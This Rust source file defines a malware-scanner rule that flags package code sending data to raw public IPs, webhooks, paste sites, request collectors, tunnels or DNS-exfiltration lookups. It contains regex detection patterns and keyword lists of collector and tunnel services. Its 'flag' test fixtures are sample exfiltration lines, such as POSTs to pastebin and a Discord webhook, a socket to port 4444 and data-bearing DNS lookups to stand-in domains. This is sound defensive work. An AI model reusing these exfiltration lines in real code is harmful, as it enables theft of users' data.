//! Rule `suspicious-endpoint`.

use crate::model::Severity;
use crate::package::Package;
use crate::rules::{Emitter, code_files, find_text, is_doc_path};

crate::declare_rule! {
    /// Code that addresses places stolen data goes: a raw public IP address as a URL, socket
    /// target or request-options host (`{ hostname, path, method }`), request collectors (webhook.site-style, out-of-band testing domains), Discord
    /// and Slack incoming webhooks, Telegram bot API, paste sites and file drops, calendar/paste dead drops,
    /// tunnelling domains, and DNS lookups of names built at run time (DNS exfiltration).
    /// Hosts are judged by their kind, never by a list of known-bad names; a webhook or raw IP
    /// on a comment line is an example (an API client's JSDoc), not a destination.
    id: "suspicious-endpoint",
    category: Network,
    severity: High,
    capability: Some(crate::model::Capability::Network),
    title: "talks to a raw IP, collector, webhook, paste site or tunnel",
    incident: "typosquats posting to Discord/Telegram webhooks; BeaverTail C2 on raw IPs; dependency-confusion DNS exfiltration",
    case_file: "index.js",
    flag: ["https.request({ host: 'pastebin.com', path: '/api/api_post.php', method: 'POST' }).end(body)",
           "fetch('https://discord.com/api/webhooks/1/abc', { method: 'POST' })",
           "const u = 'http://' + '203.0.113.9' + ':1224/uploads'",
           "const s = new net.Socket(); s.connect(4444, '198.51.100.7')",
           "https.get('https://pastebin.com/raw/abcd')",
           "const c = n(687); const q = c.request({ hostname: '203.0.113.140', port: 443, path: '/w', method: 'POST' }); q.end(body)",
           "const dns = require('dns'); dns.lookup(`${chunk}.${i}.oast-cb.example.net`, () => {})",
           "/**\n * @example\n * hooks.create({ url: 'https://example.invalid/x' })\n */\nconst hook = 'https://hooks.slack.com/services/T0/B0/x'; post(hook, body)", "const dns = require('dns'); dns.lookup(hex + '.collect.example.org', cb)"],
    pass: ["fetch('https://api.example.com/v2/items')",
           // wrangler 4.164.0: an API client's JSDoc example names a Slack webhook
           "/**\n * @example\n * await client.webhooks.create({\n *   url: 'https://hooks.slack.com/services/Ds3fdBFbV/456464Gdd',\n * });\n */\ncreate(params) { return this.post('/webhooks', params) }",
           "// Allows request.get('https://1.2.3.4/').set('Host', 'example.com')\nconst u = opts.url",
           "const result = this.channel.requestBinarySync(method, payload)", "const local = 'http://127.0.0.1:8080'",
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== README.md\nconnect to http://203.0.113.10:8080",
           "const v = '1.2.3.4' // version-ish string not used as an address",
           "const a = proxy({ hostname: '192.168.1.20', path: '/api', method: 'GET' })", "const b = serve({ hostname: '203.0.113.140', port: 8080 })", "const dns = require('dns'); dns.lookup(host, cb)"],
}

fn public_ipv4(s: &str) -> bool {
    let parts: Vec<u32> = s.split('.').filter_map(|p| p.parse().ok()).collect();
    if parts.len() != 4 || parts.iter().any(|p| *p > 255) {
        return false;
    }
    let private = matches!(parts[0], 0 | 10 | 127 | 224..=255)
        || (parts[0] == 169 && parts[1] == 254)
        || (parts[0] == 172 && (16..32).contains(&parts[1]))
        || (parts[0] == 192 && parts[1] == 168)
        || (parts[0] == 100 && (64..128).contains(&parts[1]));
    !private
}

fn check(pkg: &Package, out: &mut Emitter) {
    let request_opts = crate::regex!(
        r#"\bhost(?:name)?\s*:\s*['"]\d{1,3}(?:\.\d{1,3}){3}['"]\s*,[^{}\n]{0,120}\b(?:path|method)\s*:"#
    );
    let ip_url =
        crate::regex!(r"(?i)\b(?:https?|wss?|tcp|ftp)://(\d{1,3}(?:\.\d{1,3}){3})(?::\d+)?");
    let collectors = crate::regex!(
        r"(?i)(discord(?:app)?\.com/api/webhooks|hooks\.slack\.com/services/|api\.telegram\.org/bot|webhook\.site|requestbin\.[a-z]|pipedream\.net|hookbin|requestcatcher|beeceptor|interact\.sh|oast\.(?:fun|pro|live|site|online|me)|oastify\.com|burpcollaborator|canarytokens|dnslog\.cn|ceye\.io|pastebin\.com/(?:raw|api)|\x22pastebin\.com\x22|'pastebin\.com'|paste\.ee/r|hastebin|ghostbin|rentry\.co|transfer\.sh|file\.io|0x0\.st|temp\.sh|anonfiles|gofile\.io|calendar\.app\.google)"
    );
    let tunnels = crate::regex!(
        r"(?i)\b[\w-]+\.(ngrok\.io|ngrok-free\.app|ngrok\.app|trycloudflare\.com|serveo\.net|loca\.lt|localtunnel\.me|pagekite\.me|localhost\.run)\b"
    );
    for f in code_files(pkg) {
        if is_doc_path(&f.path) {
            continue;
        }
        let texty = crate::mentions!(
            crate::rules::all_text(f),
            [
                "://",
                "webhook",
                "hooks.slack",
                "telegram",
                "pastebin",
                "paste.ee",
                "hastebin",
                "ghostbin",
                "rentry",
                "transfer.sh",
                "file.io",
                "0x0.st",
                "temp.sh",
                "anonfiles",
                "gofile",
                "calendar.app",
                "pipedream",
                "requestbin",
                "hookbin",
                "requestcatcher",
                "beeceptor",
                "interact.sh",
                "oast",
                "burpcollaborator",
                "canarytokens",
                "dnslog",
                "ceye.io",
                "ngrok",
                "trycloudflare",
                "serveo",
                "loca.lt",
                "localtunnel",
                "pagekite",
                "localhost.run"
            ]
        );
        let find = |re: &crate::rules::gate::Re| if texty { find_text(f, re) } else { Vec::new() };
        // A raw IP or a webhook in a comment is an example (an API client's JSDoc: `url:
        // 'https://hooks.slack.com/services/…'` in wrangler 4.164.0), not a destination.
        let comment = |o: u32| {
            let o = (o as usize).min(f.text.len());
            let start = f.text[..o].rfind('\n').map_or(0, |i| i + 1);
            let line = f.text[start..].trim_start();
            line.starts_with("//") || line.starts_with('*')
        };
        if let Some((off, m)) = find(collectors).into_iter().find(|(o, _)| !comment(*o)) {
            out.hit(
                pkg,
                f,
                off,
                format!("addresses a collector, webhook or paste service ({m})"),
            );
            continue;
        }
        let ip = find(ip_url).into_iter().find(|(o, m)| {
            if comment(*o) {
                return false;
            }
            let host = m
                .split("://")
                .nth(1)
                .unwrap_or("")
                .split(':')
                .next()
                .unwrap_or("");
            public_ipv4(host)
        });
        let ip = ip.or_else(|| {
            let js = f.js.as_ref()?;
            js.calls.iter().find_map(|c| {
                let sock = matches!(
                    c.path.as_str(),
                    "net.Socket.connect" | "net.connect" | "net.createConnection" | "tls.connect"
                ) || c.path.ends_with(".connect");
                let target = c
                    .args
                    .iter()
                    .filter_map(|a| a.lit.as_deref())
                    .chain(
                        c.opts
                            .iter()
                            .filter(|(k, _)| k == "host" || k == "hostname")
                            .map(|(_, v)| v.as_str()),
                    )
                    .find(|s| public_ipv4(s));
                (sock || super::is_net_call(&c.path))
                    .then_some(())
                    .and(target)
                    .map(|t| (c.off, t.to_string()))
            })
        });
        // Request options naming a raw IP (`{ hostname: '…', path, method }`), also when the
        // client is reached through a bundler's module map (`n(687).request(…)`) that does not
        // resolve to a module.
        let ip = ip.or_else(|| {
            if !crate::mentions!(
                crate::rules::all_text(f),
                ["host:", "hostname:", "host :", "hostname :"]
            ) {
                return None;
            }
            find_text(f, request_opts).into_iter().find_map(|(o, m)| {
                let host = crate::regex!(r"\d{1,3}(?:\.\d{1,3}){3}").find(&m)?.as_str();
                (public_ipv4(host) && !comment(o)).then(|| (o, host.to_string()))
            })
        });
        if let Some((off, m)) = ip {
            out.hit(pkg, f, off, format!("addresses a raw IP address ({m})"));
            continue;
        }
        if let Some((off, m)) = find(tunnels).into_iter().next() {
            out.hit_sev(
                Severity::Medium,
                pkg,
                f,
                off,
                format!("addresses a tunnelling service ({m})"),
            );
            continue;
        }
        if let Some(js) = &f.js
            && let Some(c) = js.calls.iter().find(|c| {
                matches!(
                    c.path.as_str(),
                    "dns.lookup"
                        | "dns.resolve"
                        | "dns.resolve4"
                        | "dns.resolveTxt"
                        | "dns.promises.lookup"
                        | "dns.promises.resolve"
                        | "dns/promises.lookup"
                        | "dns/promises.resolve"
                ) && c.arg_lit(0).is_none()
                    && c.args
                        .first()
                        .and_then(|a| a.tail.as_deref())
                        .is_some_and(|t| t.starts_with('.') && t.len() > 4 && t[1..].contains('.'))
            })
        {
            out.hit(
                pkg,
                f,
                c.off,
                "resolves DNS names that carry data under a fixed domain (DNS exfiltration)",
            );
        }
    }
}
